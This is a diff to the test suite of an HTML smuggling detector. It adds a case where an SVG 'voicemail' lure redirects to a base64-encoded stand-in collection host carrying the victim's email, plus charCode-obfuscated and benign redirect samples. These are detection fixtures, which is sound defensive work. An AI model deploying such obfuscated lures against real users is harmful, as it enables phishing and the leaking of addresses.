@@ -230,6 +230,14 @@ describe('html', () => {
     assert.deepEqual(inspectHtml(utf8('<script>document.write(unescape("%3C%68%74%6D%6C%3E"))</script>'), DEFAULT_LIMITS).smuggling, ['write_decoded']);
     assert.deepEqual(inspectHtml(utf8('<a href="data:application/octet-stream;base64,TVqQ" download="a.exe">x</a>'), DEFAULT_LIMITS).smuggling, ['data_application']);
   });
+  it('recognises a script sending the browser to an address it decodes (the SVG voicemail)', () => {
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var e="amy@example.org";window.location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvP2U9")+e;]]></script></svg>';
+    assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['decoded_redirect']);
+    assert.deepEqual(inspectHtml(utf8('<script>location.replace(String.fromCharCode(104,116,116,112))</script>'), DEFAULT_LIMITS).smuggling, ['decoded_redirect']);
+    // A saved page that reads its own query string, or redirects in plain sight, hides nothing.
+    assert.deepEqual(inspectHtml(utf8('<script>var q = decodeURIComponent(location.search); if (q) location.href = "/search?q=" + q;</script>'), DEFAULT_LIMITS).smuggling, []);
+    assert.deepEqual(inspectHtml(utf8('<script>if (location.hash === "") location.href = "https://example.org/";</script>'), DEFAULT_LIMITS).smuggling, []);
+  });
   it('stays quiet on a plain page, inline images and fonts', () => {
     const page = `<html><style>@font-face{src:url(data:application/font-woff;base64,${'A'.repeat(9000)})}</style><body><img src="data:image/png;base64,${'B'.repeat(9000)}"><script>var x = atob("aGk=");</script></body></html>`;
     assert.deepEqual(inspectHtml(utf8(page), DEFAULT_LIMITS).smuggling, []);
